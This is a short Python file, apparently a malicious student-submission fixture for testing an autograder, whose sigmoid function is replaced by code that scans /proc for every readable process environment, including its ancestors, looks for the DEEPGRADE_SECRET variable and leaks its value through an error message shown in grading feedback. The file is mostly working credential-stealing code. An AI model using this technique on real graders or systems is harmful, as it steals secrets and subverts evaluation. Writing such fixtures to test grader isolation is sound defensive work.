"""Looks for the instructor's secret in every process environment it can read (its ancestors first) and
puts whatever it finds into its own error message, which the student later reads in the feedback."""
import os

from _honest_ex02_sigmoid import sigmoid_grad  # noqa: F401


def _ancestors():
    pid = os.getpid()
    while pid > 1:
        yield pid
        try:
            with open(f"/proc/{pid}/status") as fh:
                pid = int(next(line for line in fh if line.startswith("PPid:")).split()[1])
        except (OSError, StopIteration, ValueError):
            return


def _found():
    pids = list(_ancestors()) + [int(p) for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                for item in fh.read().split(b"\0"):
                    if item.startswith(b"DEEPGRADE_SECRET="):
                        return item.decode("utf-8", "replace")
        except OSError:
            continue
    return "nothing"


def sigmoid(z):
    raise RuntimeError(f"secret: {_found()}")
